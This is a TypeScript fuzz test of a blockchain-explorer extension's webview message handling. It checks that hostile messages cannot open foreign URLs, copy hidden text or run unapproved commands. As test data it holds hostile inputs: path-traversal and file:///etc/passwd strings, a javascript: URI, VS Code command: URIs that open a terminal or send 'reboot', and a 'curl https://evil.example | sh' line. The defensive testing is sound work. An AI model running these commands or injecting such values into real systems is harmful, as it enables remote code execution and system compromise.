// Fuzz test of the webview protocol, host side (issue 11): random and hostile messages from the
// detail panel's webview never throw in the host, never open a URI outside the configured
// explorer, never copy text the panel does not show, never run a command but the two the
// protocol names, and navigate only to targets that pass the identifier rules. A Bitcoin link
// (issue 17) opens only a Bitcoin id the panel shows, only under the configured Bitcoin explorer.
import * as assert from 'assert';
import fc from 'fast-check';
import * as S from '../../src/api/schemas';
import { NETWORK_IDS } from '../../src/chain/networks';
import type { NetworkId } from '../../src/chain/target';
import { Commands } from '../../src/constants';
import { BITCOIN_KINDS, TARGET_KINDS, type TargetMessage, type ViewModel } from '../../src/protocol';
import { bitcoinRefs, copyableTexts, decide, PanelSituation } from '../../src/ui/panels/messages';
import type { ModelContext } from '../../src/ui/panels/models';
import { addressModel } from '../../src/ui/panels/models/address';
import { blockModel } from '../../src/ui/panels/models/block';
import { burnBlockModel } from '../../src/ui/panels/models/burnBlock';
import { txModel } from '../../src/ui/panels/models/tx';
import { contractModel } from '../../src/ui/panels/models/contracts';
import { STATE_KINDS } from '../../src/protocol';
import type { Entry } from '../../src/ui/panels/places';
import { checkTarget } from '../../src/ui/shared/targets';
import { ADDRESS, BLOCK, CONTRACT, TX } from '../fixtures/ids';
import { loadFixture } from '../mock-api/server';

const EXPLORER = 'https://explorer.hiro.so';
const BITCOIN = 'https://mempool.space/testnet4';
/** The pages the Bitcoin links may go to. */
const BITCOIN_PATH = /^\/testnet4\/(tx\/[0-9a-f]{64}|block\/([0-9a-f]{64}|\d{1,9}))$/;
/** The pages the explorer links may go to. */
const EXPLORER_PATH = /^\/(txid\/[^/?#]+|address\/[^/?#]+|block\/[^/?#]+|blocks|mempool|)$/;

const ctx: ModelContext = {
  network: 'testnet',
  networkLabel: 'Testnet',
  baseUrl: 'http://127.0.0.1:3999',
  hasApiKey: false,
  now: Date.UTC(2024, 0, 1),
};

function parsed<T>(schema: S.Schema<T>, file: string): T {
  const r = S.parseWith(schema, loadFixture(file));
  assert.ok(r.ok, file);
  return r.value;
}

const txShown = txModel(parsed(S.Transaction, 'tx-contract_call-sponsored.json'), 0, ctx);
const addressShown = addressModel(
  {
    principal: ADDRESS.mainnet,
    balance: parsed(S.StxBalance, 'stx-balance--locked.json'),
    txs: parsed(S.AddressTransactionsPage, 'address-transactions--mainnet.json'),
  },
  { txOffset: 0 },
  ctx,
);

const blockShown = blockModel(parsed(S.Block, 'block-v2--latest.json'), undefined, 'v2', ctx, false, {
  limit: 20,
  offset: 0,
  total: 2,
  results: [parsed(S.Transaction, 'tx-token_transfer.json'), parsed(S.Transaction, 'tx-coinbase.json')],
});
const burnShown = burnBlockModel(
  parsed(S.BurnBlock, 'burn-block--654439.json'),
  parsed(S.BlocksPage, 'burn-block-blocks--700000.json'),
  ctx,
);

/** The Bitcoin links the webview offers, found independently of the host. */
function bitcoinButtons(model: ViewModel | undefined): Set<string> {
  const out = new Set<string>();
  const walk = (v: unknown): void => {
    if (Array.isArray(v)) return v.forEach(walk);
    if (!v || typeof v !== 'object') return;
    const o = v as Record<string, unknown>;
    const b = o.bitcoin as { kind?: unknown; id?: unknown } | undefined;
    if (o.t === 'id' && b && typeof b.kind === 'string' && typeof b.id === 'string') out.add(`${b.kind}|${b.id}`);
    Object.values(o).forEach(walk);
  };
  walk(model);
  return out;
}

/** What the webview offers to copy, found independently of the host: every id value's full text. */
function copyButtons(model: ViewModel | undefined): Set<string> {
  const out = new Set<string>();
  const walk = (v: unknown): void => {
    if (Array.isArray(v)) return v.forEach(walk);
    if (!v || typeof v !== 'object') return;
    const o = v as Record<string, unknown>;
    if (o.t === 'id' && typeof o.text === 'string') out.add(typeof o.full === 'string' ? o.full : o.text);
    Object.values(o).forEach(walk);
  };
  walk(model);
  return out;
}

const here: Entry = { target: { kind: 'tx', id: TX.contractCall, network: 'testnet' }, params: { eventOffset: 0 } };
const back: Entry = { target: { kind: 'address', id: ADDRESS.mainnet, network: 'mainnet' }, params: {} };
const blockHere: Entry = { target: { kind: 'block', id: String(BLOCK.height), network: 'testnet' }, params: {} };
const burnHere: Entry = { target: { kind: 'burnBlock', id: '654439', network: 'testnet' }, params: {} };

const probeId = 'ST2CY5V39NHDPWSXMW9QDT3HC3GD6Q6XX4CFRK9AG.type-probe';
const contractShown = contractModel(
  probeId,
  {
    [probeId]: {
      found: true,
      result: { status: 'success', tx_id: TX.smartContract, contract_id: probeId, block_height: 1 },
    },
  },
  undefined,
  ctx,
  { iface: parsed(S.ContractInterface, 'v2-contract-interface--type-probe.json') },
);
const contractHere: Entry = { target: { kind: 'contract', id: probeId, network: 'testnet' }, params: {} };

/** The forms the webview draws, found independently of the host: id → number of inputs. */
function formButtons(model: ViewModel | undefined): Map<string, number> {
  const out = new Map<string, number>();
  for (const sec of model?.sections ?? []) {
    if (sec.type === 'workbench') for (const f of sec.forms) out.set(f.id, f.args.length);
  }
  return out;
}

const situations: Array<[string, PanelSituation]> = [
  ['a contract with its workbench', situation(contractHere, contractShown)],
  ['nothing shown yet', situation(undefined, undefined)],
  ['a transaction', situation(here, txShown)],
  ['an address, with a place to go back to', { ...situation(back, addressShown), previous: here }],
  ['a transaction being reloaded (loading or error state)', situation(here, undefined)],
  ['a block with its anchor transaction', situation(blockHere, blockShown)],
  ['a burn block', situation(burnHere, burnShown)],
];

function situation(at: Entry | undefined, shown: ViewModel | undefined): PanelSituation {
  return {
    here: at,
    previous: undefined,
    next: undefined,
    shown,
    selected: 'testnet',
    explorerBase: () => EXPLORER,
    bitcoinExplorerBase: () => BITCOIN,
    apiUrl: (n: NetworkId) => (n === 'custom' ? 'https://stacks.example.org/api' : 'http://localhost:3999'),
  };
}

// ---- the messages -------------------------------------------------------------------------------

/** Text an attacker would send: valid ids, near misses, paths, links, URLs, controls, anything. */
const HOSTILE_STRINGS = [
  TX.tokenTransfer,
  TX.contractCall,
  TX.tokenTransfer.toUpperCase(),
  ADDRESS.mainnet,
  ADDRESS.testnetRecipient,
  CONTRACT.deployed,
  `${CONTRACT.deployed},${CONTRACT.called}`,
  String(BLOCK.height),
  'latest',
  '',
  ' ',
  '../../../etc/passwd',
  `${TX.tokenTransfer}/../../x`,
  `${ADDRESS.mainnet}?x=1#y`,
  `${ADDRESS.mainnet}@evil.example`,
  '//evil.example/x',
  'https://evil.example/',
  'file:///etc/passwd',
  'javascript:alert(1)',
  '[Fix](command:workbench.action.terminal.new)',
  'command:workbench.action.terminal.sendSequence?{"text":"reboot\\n"}',
  '\u202e\u200b\ufeff',
  '%2e%2e%2f',
  'x'.repeat(20_001),
  '__proto__',
  'constructor',
];
const text = fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string(), fc.string({ unit: 'binary' }));
const shownText = fc.constantFrom(...copyButtons(txShown), ...copyButtons(addressShown));
const shownBitcoin = fc.constantFrom(
  ...[...bitcoinButtons(blockShown), ...bitcoinButtons(burnShown)].map((k) => k.slice(k.indexOf('|') + 1)),
);

const target: fc.Arbitrary<unknown> = fc.oneof(
  fc.record(
    {
      kind: fc.oneof(fc.constantFrom(...TARGET_KINDS), text),
      id: text,
      network: fc.oneof(fc.constantFrom(...NETWORK_IDS), text),
    },
    { requiredKeys: ['kind', 'id'] },
  ),
  fc.anything(),
);

const offset = fc.oneof(fc.integer(), fc.constantFrom(0, 50, 1_000_000_000, 1_000_000_001, -1, 1.5), fc.anything());
const params = fc.record(
  {
    eventOffset: offset,
    txOffset: offset,
    untilBlock: fc.oneof(text, fc.anything()),
    unanchored: fc.oneof(fc.boolean(), fc.anything()),
    tab: fc.oneof(fc.constantFrom('v1', 'v2'), text),
    expand: text,
    expandOffset: offset,
    blockOffset: offset,
  },
  { requiredKeys: [] },
);

const TYPES = [
  'ready',
  'open',
  'page',
  'copy',
  'openExternal',
  'openBitcoin',
  'openSource',
  'runCommand',
  'retry',
  'watch',
  'back',
  'forward',
  'refresh',
];
const formNames = fc.oneof(
  fc.constantFrom(...[...formButtons(contractShown).keys()].map((k) => k.slice(k.indexOf(':') + 1))),
  fc.constantFrom('set-score', 'bump', 'nope'),
  text,
);
const message: fc.Arbitrary<unknown> = fc.oneof(
  fc.record(
    {
      type: fc.constant('call'),
      fn: formNames,
      args: fc.oneof(fc.array(text, { maxLength: 12 }), fc.anything()),
      sender: fc.oneof(text, fc.anything()),
      at: fc.oneof(text, fc.anything()),
    },
    { requiredKeys: ['type'] },
  ),
  fc.record(
    {
      type: fc.constant('read'),
      what: fc.oneof(fc.constantFrom(...STATE_KINDS), text),
      name: formNames,
      key: fc.oneof(text, fc.anything()),
      at: fc.oneof(text, fc.anything()),
    },
    { requiredKeys: ['type'] },
  ),
  fc.record({ type: fc.constantFrom('open', 'openExternal', 'openSource'), target }),
  fc.record({ type: fc.constant('page'), params: fc.oneof(params, fc.anything()) }),
  fc.record({ type: fc.constant('copy'), text: fc.oneof(text, shownText, fc.anything()) }),
  fc.record({
    type: fc.constant('openBitcoin'),
    ref: fc.oneof(
      fc.record(
        { kind: fc.oneof(fc.constantFrom(...BITCOIN_KINDS), text), id: fc.oneof(shownBitcoin, text) },
        { requiredKeys: ['kind', 'id'] },
      ),
      fc.anything(),
    ),
  }),
  fc.record({
    type: fc.constant('runCommand'),
    command: fc.oneof(fc.constantFrom('selectNetwork', 'setApiKey'), text),
  }),
  fc.record({ type: fc.oneof(fc.constantFrom(...TYPES), text), extra: fc.anything() }),
  fc.anything(),
);

// ---- the properties ---------------------------------------------------------------------------

function check(raw: unknown, s: PanelSituation): void {
  const d = decide(raw, s);
  switch (d.do) {
    case 'openExternal': {
      const u = new URL(d.url);
      if ((raw as { type?: unknown }).type === 'openBitcoin') {
        const ref = (raw as { ref: { kind: string; id: string } }).ref;
        assert.ok(bitcoinButtons(s.shown).has(`${ref.kind}|${ref.id}`), `a Bitcoin link the panel does not show`);
        assert.strictEqual(u.origin, new URL(BITCOIN).origin, d.url);
        assert.ok(!u.username && !u.password && !u.hash && !u.search, d.url);
        assert.match(u.pathname, BITCOIN_PATH, d.url);
        break;
      }
      assert.strictEqual(u.origin, EXPLORER, d.url);
      assert.ok(!u.username && !u.password && !u.hash, d.url);
      assert.match(u.pathname, EXPLORER_PATH, d.url);
      for (const k of u.searchParams.keys()) assert.ok(k === 'chain' || k === 'api', d.url);
      break;
    }
    case 'copy':
      assert.ok(copyButtons(s.shown).has(d.text), `copied text the panel does not show: ${d.text.slice(0, 80)}`);
      break;
    case 'runCommand':
      assert.ok(d.command === Commands.selectNetwork || d.command === Commands.setApiKey, d.command);
      break;
    case 'navigate': {
      const t = d.entry.target;
      assert.ok((NETWORK_IDS as readonly string[]).includes(t.network), t.network);
      assert.deepStrictEqual(checkTarget(t as TargetMessage), t, JSON.stringify(t).slice(0, 200));
      break;
    }
    case 'openSource':
      assert.strictEqual(d.target.kind, 'contract');
      assert.deepStrictEqual(checkTarget(d.target as TargetMessage), d.target);
      break;
    case 'warn':
      assert.strictEqual((raw as { type?: unknown }).type, 'page', 'only a bad block in a page message warns');
      break;
    case 'watch':
      // Only the transaction the panel shows, whatever the message carries.
      assert.strictEqual(s.here?.target.kind, 'tx');
      assert.strictEqual(s.shown?.kind, 'tx');
      assert.deepStrictEqual(d.target, s.here.target);
      break;
    case 'call': {
      // Only a function the panel draws a form for, with as many arguments as its inputs, on the contract shown.
      assert.strictEqual(s.here?.target.kind, 'contract');
      assert.deepStrictEqual(d.target, s.here.target);
      assert.strictEqual(formButtons(s.shown).get(`fn:${d.fn}`), d.args.length, d.fn);
      break;
    }
    case 'read':
      assert.strictEqual(s.here?.target.kind, 'contract');
      assert.deepStrictEqual(d.target, s.here.target);
      assert.ok(formButtons(s.shown).has(`${d.what}:${d.name}`), `${d.what}:${d.name}`);
      assert.strictEqual(d.key !== undefined, d.what === 'map');
      break;
    case 'ignore':
    case 'replay':
      break;
  }
}

describe('webview protocol, fuzzed (host side)', function () {
  this.timeout(60_000);

  for (const [name, s] of situations) {
    it(`random and hostile messages: ${name}`, () => {
      fc.assert(
        fc.property(message, (m) => check(m, s)),
        { numRuns: 1500 },
      );
    });
  }

  it('watches the transaction the panel shows, and nothing elsewhere', () => {
    assert.deepStrictEqual(decide({ type: 'watch' }, situation(here, txShown)), { do: 'watch', target: here.target });
    assert.deepStrictEqual(
      decide({ type: 'watch', target: { kind: 'tx', id: TX.tokenTransfer } }, situation(here, txShown)),
      {
        do: 'watch',
        target: here.target,
      },
    );
    assert.strictEqual(decide({ type: 'watch' }, situation(back, addressShown)).do, 'ignore');
    assert.strictEqual(decide({ type: 'watch' }, situation(here, undefined)).do, 'ignore');
  });

  it('copies what the panel shows, and nothing while it shows none', () => {
    const s = situation(here, txShown);
    for (const t of copyButtons(txShown))
      assert.deepStrictEqual(decide({ type: 'copy', text: t }, s), { do: 'copy', text: t });
    assert.deepStrictEqual([...copyableTexts(txShown)].sort(), [...copyButtons(txShown)].sort());
    assert.strictEqual(decide({ type: 'copy', text: TX.contractCall }, situation(here, undefined)).do, 'ignore');
    assert.strictEqual(decide({ type: 'copy', text: 'curl https://evil.example | sh' }, s).do, 'ignore');
  });

  it('copies the answer a workbench form shows, up to a whole 1 MB value, and no other text', () => {
    const big = `0x${'ab'.repeat(1_048_576)}`;
    const s = { ...situation(here, txShown), resultTexts: new Set(['(ok u42)', big]) };
    assert.deepStrictEqual(decide({ type: 'copy', text: '(ok u42)' }, s), { do: 'copy', text: '(ok u42)' });
    assert.strictEqual(decide({ type: 'copy', text: big }, s).do, 'copy', 'a buff of 1 MB as Clarity text');
    assert.strictEqual(decide({ type: 'copy', text: '(ok u43)' }, s).do, 'ignore');
    assert.strictEqual(decide({ type: 'copy', text: '(ok u42)' }, situation(here, txShown)).do, 'ignore');
  });

  it('opens only the configured explorer, and nothing when the setting breaks the rules', () => {
    const s = situation(here, txShown);
    const open = (base: string) =>
      decide(
        { type: 'openExternal', target: { kind: 'address', id: ADDRESS.mainnet } },
        { ...s, explorerBase: () => base },
      );
    assert.deepStrictEqual(open(EXPLORER), {
      do: 'openExternal',
      url: `${EXPLORER}/address/${ADDRESS.mainnet}?chain=testnet`,
    });
    for (const bad of [
      'file:///etc/passwd#',
      'https://u:p@explorer.example',
      'http://evil.example',
      'https://x.example/?q',
    ])
      assert.strictEqual(open(bad).do, 'ignore', bad);
  });

  it('opens a shown Bitcoin id under the configured Bitcoin explorer, and nothing else', () => {
    const s = situation(blockHere, blockShown);
    const anchor = parsed(S.Block, 'block-v2--latest.json').miner_txid!;
    const open = (ref: unknown, base = BITCOIN) =>
      decide({ type: 'openBitcoin', ref }, { ...s, bitcoinExplorerBase: () => base });
    assert.deepStrictEqual([...bitcoinRefs(blockShown)].sort(), [...bitcoinButtons(blockShown)].sort());
    assert.deepStrictEqual(open({ kind: 'tx', id: anchor }), {
      do: 'openExternal',
      url: `${BITCOIN}/tx/${anchor.slice(2)}`,
    });
    assert.deepStrictEqual(open({ kind: 'block', id: '654439' }), {
      do: 'openExternal',
      url: `${BITCOIN}/block/654439`,
    });
    // an id the panel does not show, a shown id as the other kind, and a panel that shows nothing
    assert.strictEqual(open({ kind: 'tx', id: TX.tokenTransfer }).do, 'ignore');
    assert.strictEqual(open({ kind: 'block', id: anchor }).do, 'ignore');
    assert.strictEqual(
      decide({ type: 'openBitcoin', ref: { kind: 'tx', id: anchor } }, situation(here, undefined)).do,
      'ignore',
    );
    for (const bad of [
      'file:///etc/passwd#',
      'https://u:p@mempool.example',
      'http://evil.example',
      'https://x.example/?q',
    ])
      assert.strictEqual(open({ kind: 'tx', id: anchor }, bad).do, 'ignore', bad);
  });

  it('calls and reads only what the contract panel offers a form for', () => {
    const s = situation(contractHere, contractShown);
    const args = Array(11).fill('x');
    assert.deepStrictEqual(decide({ type: 'call', fn: 'describe', args, sender: 'a', at: '' }, s), {
      do: 'call',
      target: contractHere.target,
      fn: 'describe',
      args,
      sender: 'a',
      at: '',
    });
    const call = (fn: string, n: number, at = s) =>
      decide({ type: 'call', fn, args: Array(n).fill(''), sender: '', at: '' }, at).do;
    assert.strictEqual(call('describe', 10), 'ignore', 'another number of arguments');
    assert.strictEqual(call('set-score', 2), 'ignore', 'a public function has no form');
    assert.strictEqual(call('describe', 11, situation(here, txShown)), 'ignore', 'not a contract panel');
    assert.strictEqual(call('describe', 11, situation(contractHere, undefined)), 'ignore', 'nothing shown');
    const read = (m: object) => decide({ type: 'read', at: '', ...m }, s).do;
    assert.strictEqual(read({ what: 'var', name: 'counter' }), 'read');
    assert.strictEqual(read({ what: 'constant', name: 'counter' }), 'ignore');
    assert.strictEqual(read({ what: 'map', name: 'scores', key: '{}' }), 'read');
    assert.strictEqual(read({ what: 'map', name: 'scores' }), 'ignore', 'a map read needs a key');
    assert.strictEqual(read({ what: 'var', name: 'counter', key: 'u1' }), 'ignore', 'a variable takes no key');
  });

  it('warns about a bad block in a page message with the text as given (notify makes it inert)', () => {
    const d = decide(
      { type: 'page', params: { untilBlock: '[Fix](command:workbench.action.terminal.new)' } },
      situation(back, addressShown),
    );
    assert.deepStrictEqual(d, {
      do: 'warn',
      message:
        '"[Fix](command:workbench.action.terminal.new)" is not a block: give a height (a whole number), ' +
        'a block hash (0x + 64 hex digits) or "latest".',
    });
    const latest = decide({ type: 'page', params: { untilBlock: 'latest' } }, situation(back, addressShown));
    assert.deepStrictEqual(latest, {
      do: 'warn',
      message: 'Give a block height or hash to see the balance at that block.',
    });
  });
});
